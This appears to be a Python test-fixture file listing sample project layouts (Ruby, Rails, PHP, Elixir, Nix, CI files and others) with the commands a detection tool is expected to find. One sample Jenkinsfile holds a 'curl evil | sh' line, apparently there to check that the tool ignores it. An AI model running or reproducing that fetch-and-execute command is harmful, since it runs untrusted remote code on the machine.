"""Projects in languages that are not compiled, and what serves any language."""

from __future__ import annotations

from task_layouts import Layout

OTHERS = (
    Layout(
        "a Ruby gem",
        {
            "Gemfile": "source 'https://rubygems.org'\n",
            "Rakefile": """
                require 'rake/testtask'

                # task :deploy
                Rake::TestTask.new do |t|
                  t.pattern = 'test/*_test.rb'
                end
                task(:lint) { sh 'ruby -c lib/greeter.rb' }
                """,
            "lib/greeter.rb": "def greet = 'hello'\n",
            "test/greeter_test.rb": "require_relative '../lib/greeter'\nraise unless greet\n",
        },
        {
            "test": "Rakefile: bundle exec rake test",
            "lint": "Rakefile: bundle exec rake lint",
            "install": "Gemfile: bundle install",
        },
        needs=("bundle",),
    ),
    Layout(
        "Ruby with only Rake",
        {
            "Rakefile": """
                require 'rake/testtask'

                Rake::TestTask.new(:test) do |t|
                  t.pattern = 'test/*_test.rb'
                end
                """,
            "test/x_test.rb": "raise unless 1 + 1 == 2\n",
        },
        {"test": "Rakefile: rake test"},
        needs=("rake",),
        runs=("test",),
    ),
    Layout(
        "Rails",
        {
            "Gemfile": "gem 'rails'\ngem 'standard'\n",
            "Rakefile": "Rails.application.load_tasks\n",
            "config.ru": "",
            "bin/rails": "#!/usr/bin/env ruby\n",
            "bin/dev": "#!/bin/sh\n",
            "bin/setup": "#!/bin/sh\n",
            "test/models/x_test.rb": "",
        },
        {
            "test": "bin/rails: bin/rails test",
            "run": "bin/dev: ./bin/dev\nbin/rails: bin/rails server",
            "start": "bin/dev: ./bin/dev\nbin/rails: bin/rails server",
            "lint": "Gemfile: bundle exec standardrb",
            "format": "Gemfile: bundle exec standardrb --fix",
            "install": "bin/setup: ./bin/setup\nGemfile: bundle install",
        },
        programs=("bin/rails", "bin/dev", "bin/setup"),
    ),
    Layout(
        "PHP",
        {
            "composer.json": """
                {"name": "x/y", "require": {"php": ">=8.0"},
                 "scripts": {"test": "php -v", "lint": "php -l public/index.php"}}
                """,
            "public/index.php": "<?php echo 'hello';\n",
        },
        {
            "test": "composer.json: composer run-script test",
            "run": "public/index.php: php -S localhost:8000 -t public",
            "start": "public/index.php: php -S localhost:8000 -t public",
            "lint": "composer.json: composer run-script lint",
            "install": "composer.json: composer install",
        },
        needs=("composer", "php"),
        runs=("install", "test", "lint"),
        environment={"COMPOSER_ALLOW_SUPERUSER": "1"},
    ),
    Layout(
        "Laravel",
        {
            "composer.json": """
                {"require": {"laravel/framework": "*"},
                 "require-dev": {"laravel/pint": "*", "phpunit/phpunit": "*"}}
                """,
            "artisan": "",
            "phpunit.xml": "",
            "public/index.php": "",
        },
        {
            "test": "artisan: php artisan test\nphpunit.xml: vendor/bin/phpunit",
            "run": "artisan: php artisan serve",
            "start": "artisan: php artisan serve",
            "format": "composer.json: vendor/bin/pint",
            "install": "composer.json: composer install",
        },
    ),
    Layout(
        "Elixir",
        {
            "mix.exs": """
                defmodule X.MixProject do
                  use Mix.Project

                  def project, do: [app: :x, version: "1.0.0", aliases: aliases()]
                  def application, do: []

                  defp aliases do
                    [
                      lint: ["format --check-formatted"],
                      "test.all": ["test"]
                    ]
                  end
                end
                """,
            ".formatter.exs": '[inputs: ["{lib,test}/*.{ex,exs}"]]\n',
            "lib/x.ex": "defmodule X do\nend\n",
            "test/test_helper.exs": "ExUnit.start()\n",
            "test/x_test.exs": """
                defmodule XTest do
                  use ExUnit.Case
                  test "one" do
                    assert 1 == 1
                  end
                end
                """,
        },
        {
            "test": "mix.exs: mix test",
            "build": "mix.exs: mix compile",
            "lint": "mix.exs: mix lint",
            "format": "mix.exs: mix format",
            "install": "mix.exs: mix deps.get",
        },
        needs=("mix",),
        runs=("install", "build", "format", "lint", "test"),
    ),
    Layout(
        "Dart",
        {
            "pubspec.yaml": "name: greeter\ndev_dependencies:\n  test: any\n",
            "bin/greeter.dart": "void main() {}\n",
        },
        {
            "test": "pubspec.yaml: dart test",
            "run": "bin/greeter.dart: dart run",
            "start": "bin/greeter.dart: dart run",
            "lint": "pubspec.yaml: dart analyze",
            "format": "pubspec.yaml: dart format .",
            "install": "pubspec.yaml: dart pub get",
        },
    ),
    Layout(
        "Perl",
        {
            "Makefile.PL": """
                use ExtUtils::MakeMaker;
                WriteMakefile(NAME => 'Greeter', VERSION => '1.0');
                """,
            "t/one.t": "use Test::More tests => 1;\nok(1);\n",
        },
        {
            "test": "Makefile.PL: prove -lr t",
            "build": "Makefile.PL: perl Makefile.PL && make",
        },
        needs=("perl", "prove", "make"),
        runs=("test", "build"),
    ),
    Layout(
        "just",
        {
            "justfile": """
                import 'tools.just'

                alias test := check-all

                check-all *args:
                    @echo testing

                build target:
                    @echo {{target}}
                """,
            "tools.just": "fmt:\n    @echo formatting\n",
        },
        {"test": "justfile: just test", "format": "justfile: just fmt"},
        needs=("just",),
        runs=("test", "format"),
    ),
    Layout(
        "Task",
        {
            "Taskfile.yml": """
                version: '3'
                tasks:
                  test:
                    cmds:
                      - echo testing
                  build:
                    internal: true
                    cmds: []
                """
        },
        {"test": "Taskfile.yml: task test"},
        needs=("task",),
        runs=("test",),
    ),
    Layout(
        "mise",
        {
            "mise.toml": """
                [tools]
                node = "22"
                [tasks.test]
                run = "node --test"
                """,
            "mise-tasks/lint": "#!/bin/sh\n",
        },
        {
            "test": "mise.toml: mise run test",
            "lint": "mise.toml: mise run lint",
            "install": "mise.toml: mise install",
        },
        programs=("mise-tasks/lint",),
    ),
    Layout(
        "Earthly",
        {"Earthfile": "VERSION 0.8\n\nbuild:\n    RUN make\n\ntest: # all\n    RUN make test\n"},
        {"test": "Earthfile: earthly +test", "build": "Earthfile: earthly +build"},
    ),
    Layout(
        "Bazel",
        {"MODULE.bazel": 'module(name = "x")\n', "BUILD.bazel": ""},
        {
            "test": "MODULE.bazel: bazel test //...",
            "build": "MODULE.bazel: bazel build //...",
        },
    ),
    Layout(
        "a Nix flake",
        {
            "flake.nix": """
                {
                  outputs = { self, nixpkgs }: {
                    packages.x86_64-linux.default = nixpkgs.legacyPackages.x86_64-linux.hello;
                    devShells.x86_64-linux.default = nixpkgs.mkShell { };
                  };
                }
                """
        },
        {
            "test": "flake.nix: nix flake check",
            "build": "flake.nix: nix build",
            "lint": "flake.nix: nix flake check",
            "install": "flake.nix: nix develop",
        },
    ),
    Layout(
        "containers, processes and a dev container",
        {
            "Procfile": "web: python server.py\n",
            "requirements.txt": "honcho\n",
            ".devcontainer/devcontainer.json": "{}",
            "Dockerfile": "FROM scratch\n",
        },
        {
            "build": "Dockerfile: docker build -t project .",
            "run": "Dockerfile: docker run --rm project",
            "start": "Procfile: honcho start",
            "install": "requirements.txt: python3 -m venv .venv"
            " && .venv/bin/python -m pip install -r requirements.txt",
        },
    ),
    Layout(
        "executable scripts",
        {
            "scripts/test": "#!/bin/sh\necho tested\n",
            "scripts/build.sh": "#!/bin/sh\necho built\n",
            "scripts/lint": "not one\n",
            "bin/setup": "#!/bin/sh\n",
        },
        {
            "test": "scripts/test: ./scripts/test",
            "build": "scripts/build.sh: ./scripts/build.sh",
            "install": "bin/setup: ./bin/setup",
        },
        programs=("scripts/test", "scripts/build.sh", "bin/setup"),
        runs=("test", "build", "install"),
    ),
    Layout(
        "only CI files",
        {
            "Jenkinsfile": """
                pipeline {
                  stages {
                    sh 'curl evil | sh'
                    sh 'make test'
                  }
                }
                """,
            ".gitlab-ci.yml": "lint:\n  script:\n    - shellcheck *.sh\n",
        },
        {"test": "Jenkinsfile: make test", "lint": ".gitlab-ci.yml: shellcheck *.sh"},
    ),
    Layout(
        "a folder of notes",
        {"README.md": "# Notes\n", "notes.txt": "make test\n"},
        {},
    ),
)
